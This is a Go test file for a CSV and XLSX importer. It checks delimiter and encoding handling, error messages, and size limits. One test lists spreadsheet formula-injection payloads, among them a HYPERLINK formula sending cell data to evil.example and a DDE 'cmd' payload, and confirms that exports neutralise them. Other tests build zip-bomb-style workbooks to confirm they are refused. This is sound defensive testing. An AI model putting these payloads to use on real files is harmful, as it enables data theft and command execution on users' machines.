package importer

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"os"
	"strconv"
	"strings"
	"testing"

	"sriim/internal/errs"
)

func TestReadCSVVariants(t *testing.T) {
	tests := []struct {
		name, file string
		want       []map[string]string
	}{
		{"comma", "a,b\n1,2\n", []map[string]string{{"a": "1", "b": "2"}}},
		{"semicolon, as Spanish Excel saves", "a;b\n1,5;2\n", []map[string]string{{"a": "1,5", "b": "2"}}},
		{"BOM and header case", "\xef\xbb\xbfA, B \n1,2\n", []map[string]string{{"a": "1", "b": "2"}}},
		{"quoted commas", "a,b\n\"x, y\",2\n", []map[string]string{{"a": "x, y", "b": "2"}}},
		{"blank lines skipped", "a,b\n1,2\n,\n3,4\n", []map[string]string{{"a": "1", "b": "2"}, {"a": "3", "b": "4"}}},
		{"short row", "a,b\n1\n", []map[string]string{{"a": "1"}}},
	}
	for _, tt := range tests {
		tbl, err := Read(strings.NewReader(tt.file), "x.csv", []string{"a"})
		if err != nil {
			t.Fatalf("%s: %v", tt.name, err)
		}
		if len(tbl.Rows) != len(tt.want) {
			t.Fatalf("%s: %d rows", tt.name, len(tbl.Rows))
		}
		for i, row := range tbl.Rows {
			for k, v := range tt.want[i] {
				if row.Get(k) != v {
					t.Errorf("%s: row %d %s = %q, want %q", tt.name, i, k, row.Get(k), v)
				}
			}
		}
	}
	tbl, _ := Read(strings.NewReader("a,b\n1,2\n,\n3,4\n"), "x.csv", nil)
	if tbl.Rows[1].Line != 4 {
		t.Errorf("line numbers must be the file's: got %d, want 4", tbl.Rows[1].Line)
	}
}

func TestReadRefusals(t *testing.T) {
	for name, file := range map[string]string{
		"empty":           "",
		"missing column":  "a\n1\n",
		"repeated column": "a,a,b\n1,2,3\n",
		"broken quotes":   "a,b\n\"1,2\n",
		"broken xlsx":     "PK\x03\x04garbage",
	} {
		if _, err := Read(strings.NewReader(file), "x", []string{"b"}); !errs.Is(err, errs.Invalid) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// TestCSVCellsAreNotFormulas: an export never hands a spreadsheet a cell it
// would run as a formula (OWASP's CSV injection), keeps plain numbers as
// numbers, and imports back unchanged.
func TestCSVCellsAreNotFormulas(t *testing.T) {
	cells := map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"x")`: `'=HYPERLINK("http://evil.example/?"&A1,"x")`,
		"+51 53 999 111 222":                         "'+51 53 999 111 222",
		"-2+3+cmd|' /C calc'!A0":                     "'-2+3+cmd|' /C calc'!A0",
		"@SUM(1,2)":                                  "'@SUM(1,2)",
		"\t=1+2":                                     "'\t=1+2",
		"\r=1+2":                                     "'\r=1+2",
		"-":                                          "'-",
		"-12.5":                                      "-12.5",
		"+3":                                         "+3",
		"-1.5e-07":                                   "-1.5e-07",
		"Loco en conserva":                           "Loco en conserva",
		"'=already text":                             "''=already text",
		"'-5":                                        "'-5",
		"":                                           "",
	}
	var header []string
	var row []string
	for in := range cells {
		header = append(header, "c"+strconv.Itoa(len(header)))
		row = append(row, in)
	}
	var buf bytes.Buffer
	if err := WriteCSV(&buf, header, [][]string{row}); err != nil {
		t.Fatal(err)
	}
	written, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\xef\xbb\xbf")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, in := range row {
		if got := written[1][i]; got != cells[in] {
			t.Errorf("%q written as %q, want %q", in, got, cells[in])
		}
	}
	tbl, err := Read(&buf, "export.csv", nil)
	if err != nil {
		t.Fatal(err)
	}
	for i, in := range row {
		if got := tbl.Rows[0].Cells[header[i]]; got != in {
			t.Errorf("%q imported back as %q", in, got)
		}
	}
}

func TestXLSXRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	if err := WriteXLSX(&buf, "datos", []string{"especie", "valor"}, [][]string{{"SNE", "65"}, {"CHC", "12.5"}}, map[string]bool{"valor": true}); err != nil {
		t.Fatal(err)
	}
	tbl, err := Read(&buf, "datos.xlsx", []string{"especie", "valor"})
	if err != nil || len(tbl.Rows) != 2 || tbl.Rows[1].Get("valor") != "12.5" || tbl.Rows[0].Get("especie") != "SNE" {
		t.Fatalf("%+v %v", tbl, err)
	}
}

func TestProblemsReportRowAndColumn(t *testing.T) {
	var p Problems
	if p.Err() != nil {
		t.Fatal("no problems gives an error")
	}
	p.Add(5, "valor", "not a number")
	p.Add(3, "", "repeats row 2")
	p.Add(5, "valor", "negative")
	e := p.Err().(*errs.Error)
	if e.Kind != errs.Invalid || e.Fields["fila 5, columna valor"] != "not a number; negative" || e.Fields["fila 3"] != "repeats row 2" {
		t.Fatalf("%+v", e)
	}
}

// What encoding/csv and excelize say is the logged cause; people read the
// catalogue's message, with the row when the parser gives one.
func TestParserErrorsBecomeCatalogueMessages(t *testing.T) {
	tests := []struct {
		name, file, message, field, problem string
	}{
		{"x.csv", "a,b\n1,2\n\"3,4\n", "the file is not valid CSV", "fila 3", "a quoted cell has no closing quote mark, or a stray one"},
		{"x.csv", "a,b\n1,2\n3,x\"y\"\n", "the file is not valid CSV", "fila 3", "a quote mark inside a cell that does not start with one"},
		{"x.xlsx", "PK\x03\x04garbage", "the file is not a valid XLSX workbook", "", ""},
		{"x.csv", "b\n1\n", "the header lacks columns", "fila 1", "columns missing: a"},
		{"x.csv", "a,A\n1,2\n", "the header repeats a column", "fila 1", `column "a" is repeated`},
	}
	for _, tt := range tests {
		_, err := Read(strings.NewReader(tt.file), tt.name, []string{"a"})
		e, ok := err.(*errs.Error)
		if !ok || e.Kind != errs.Invalid || e.Message != tt.message || e.Fields[tt.field] != tt.problem {
			t.Errorf("%q: %#v", tt.file, err)
			continue
		}
		if len(e.Fields) > 1 || e.Err == nil && tt.field != "fila 1" {
			t.Errorf("%q: fields %v, cause %v", tt.file, e.Fields, e.Err)
		}
	}
}

// workbook builds an XLSX file whose first sheet's rows and shared texts
// are written by rows and shared as the file is zipped: a hostile file is
// small, and what it unzips to is never held in memory.
func workbook(t *testing.T, rows, shared func(w io.Writer)) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	part := func(name string, write func(w io.Writer)) {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		write(w)
	}
	text := func(s string) func(io.Writer) { return func(w io.Writer) { io.WriteString(w, s) } }
	const rels = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`
	part("[Content_Types].xml", text(`<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">`+
		`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>`+
		`<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>`+
		`<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>`+
		`<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>`))
	part("_rels/.rels", text(rels+`<Relationship Id="rId1" Target="xl/workbook.xml" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>`))
	part("xl/workbook.xml", text(`<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">`+
		`<sheets><sheet name="datos" sheetId="1" r:id="rId1"/></sheets></workbook>`))
	part("xl/_rels/workbook.xml.rels", text(rels+`<Relationship Id="rId1" Target="worksheets/sheet1.xml" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/>`+
		`<Relationship Id="rId2" Target="sharedStrings.xml" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"/></Relationships>`))
	part("xl/worksheets/sheet1.xml", func(w io.Writer) {
		io.WriteString(w, `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`)
		io.WriteString(w, `<row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c><c r="B1" t="inlineStr"><is><t>b</t></is></c></row>`)
		rows(w)
		io.WriteString(w, `</sheetData></worksheet>`)
	})
	part("xl/sharedStrings.xml", func(w io.Writer) {
		io.WriteString(w, `<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">`)
		shared(w)
		io.WriteString(w, `</sst>`)
	})
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// repeat writes s n times.
func repeat(s string, n int) func(io.Writer) {
	return func(w io.Writer) {
		chunk := strings.Repeat(s, max(1, 64<<10/len(s)))
		per := len(chunk) / len(s)
		for ; n >= per; n -= per {
			io.WriteString(w, chunk)
		}
		io.WriteString(w, strings.Repeat(s, n))
	}
}

func nothing(io.Writer) {}

// withPartOf adds to an XLSX file a part that says it unzips to size bytes
// (archive/zip refuses to read a part past its stated size, so the statement
// is what a reader can check before unzipping).
func withPartOf(t *testing.T, file []byte, size uint64) []byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(file), int64(len(file)))
	if err != nil {
		t.Fatal(err)
	}
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, f := range zr.File {
		if err := zw.Copy(f); err != nil {
			t.Fatal(err)
		}
	}
	w, err := zw.CreateRaw(&zip.FileHeader{Name: "xl/media/image1.png", Method: zip.Deflate, CompressedSize64: 2, UncompressedSize64: size})
	if err != nil {
		t.Fatal(err)
	}
	w.Write([]byte{3, 0}) // an empty deflate stream
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestHostileWorkbooksAreRefusedByTheirLimit(t *testing.T) {
	bigCell := strings.Repeat("x", 30000)
	tests := []struct {
		name         string
		rows, shared func(io.Writer)
		kind         errs.Kind
		limit        string
	}{
		{"a million and more shared texts", repeat(`<row><c t="s"><v>0</v></c></row>`, 10), repeat(`<si><t>x</t></si>`, 1_100_000), errs.Invalid, "1000000 different texts"},
		{"one shared text of 2 MB", repeat(`<row><c t="s"><v>0</v></c></row>`, 10),
			func(w io.Writer) {
				io.WriteString(w, "<si><t>")
				repeat("y", 2<<20)(w)
				io.WriteString(w, "</t></si>")
			}, errs.Invalid, "32767 characters"},
		{"a shared text referenced by thousands of cells", repeat(`<row><c t="s"><v>0</v></c><c t="s"><v>0</v></c></row>`, 2500),
			func(w io.Writer) { io.WriteString(w, "<si><t>"+bigCell+"</t></si>") }, errs.Invalid, "64 MiB of text"},
		{"a cell in the last column", func(w io.Writer) { io.WriteString(w, `<row r="2"><c r="XFD2"><v>1</v></c></row>`) }, nothing, errs.Invalid, "100 columns"},
		{"a row a million rows down", func(w io.Writer) { io.WriteString(w, `<row r="1000000"><c r="A1000000"><v>1</v></c></row>`) }, nothing, errs.Invalid, "100000 rows"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			file := workbook(t, tt.rows, tt.shared)
			if len(file) > MaxBytes {
				t.Fatalf("the hostile file has %d bytes", len(file))
			}
			_, err := Read(bytes.NewReader(file), "bomba.xlsx", []string{"a"})
			if !errs.Is(err, tt.kind) || !strings.Contains(err.Error(), tt.limit) {
				t.Fatalf("a %d-byte workbook: %v; want a %s error naming %q", len(file), err, tt.kind, tt.limit)
			}
		})
	}
}

func TestWorkbookThatUnzipsPastTheLimitIsRefused(t *testing.T) {
	file := withPartOf(t, workbook(t, repeat(`<row><c><v>1</v></c></row>`, 10), nothing), 200<<20)
	if _, err := Read(bytes.NewReader(file), "grande.xlsx", []string{"a"}); !errs.Is(err, errs.TooLarge) || !strings.Contains(err.Error(), "128 MiB") {
		t.Fatalf("a %d-byte workbook that unzips to 200 MiB: %v", len(file), err)
	}
}

func TestCSVLimits(t *testing.T) {
	wide := "a,b\n1" + strings.Repeat(",1", 150) + "\n"
	long := "a,b\n" + strings.Repeat("é", 40000) + ",1\n"
	many := "a,b,c,d,e,f,g,h,i,j,k,l\n" + strings.Repeat("1,1,1,1,1,1,1,1,1,1,1,1\n", 90_000)
	for file, limit := range map[string]string{wide: "100 columns", long: "32767 characters", many: "1000000 filled cells"} {
		if _, err := Read(strings.NewReader(file), "x.csv", []string{"a"}); !errs.Is(err, errs.Invalid) || !strings.Contains(err.Error(), limit) {
			t.Errorf("%.30q…: %v, want an error naming %q", file, err, limit)
		}
	}
	if _, err := Read(strings.NewReader(strings.Repeat("a", MaxBytes+1)), "x.csv", nil); !errs.Is(err, errs.TooLarge) || !strings.Contains(err.Error(), "32 MiB") {
		t.Errorf("a file of 32 MiB and a byte: %v", err)
	}
}

func TestCSVInWindows1252IsReadAsSuch(t *testing.T) {
	// "José Peña; Ilo" as Excel saves "CSV" on a Spanish Windows.
	tbl, err := Read(bytes.NewReader([]byte("nombre;distrito\nJos\xe9 Pe\xf1a;Ilo\n")), "actores.csv", []string{"nombre"})
	if err != nil || len(tbl.Rows) != 1 || tbl.Rows[0].Get("nombre") != "José Peña" || tbl.Encoding != "windows-1252" {
		t.Fatalf("%+v %v", tbl, err)
	}
	tbl, err = Read(strings.NewReader("\xef\xbb\xbfnombre\nJosé Peña\n"), "actores.csv", []string{"nombre"})
	if err != nil || tbl.Rows[0].Get("nombre") != "José Peña" || tbl.Encoding != "" {
		t.Fatalf("UTF-8: %+v %v", tbl, err)
	}
}

func TestLargeWorkbookLeavesNoTemporaryFiles(t *testing.T) {
	t.Setenv("TMPDIR", t.TempDir()) // where excelize unzips parts too large for memory
	cell := `<c t="inlineStr"><is><t>` + strings.Repeat("z", 1000) + `</t></is></c>`
	// A 5 MB sheet, unzipped to a file, with a row too wide at its end.
	bad := workbook(t, func(w io.Writer) {
		repeat("<row>"+cell+cell+"</row>", 2500)(w)
		io.WriteString(w, `<row><c r="ZZ2502"><v>1</v></c></row>`)
	}, nothing)
	if _, err := Read(bytes.NewReader(bad), "grande.xlsx", []string{"a", "b"}); !errs.Is(err, errs.Invalid) {
		t.Fatalf("a row too wide at the end: %v", err)
	}
	if left, _ := os.ReadDir(os.TempDir()); len(left) > 0 {
		t.Fatalf("reading left %d temporary files", len(left))
	}
}
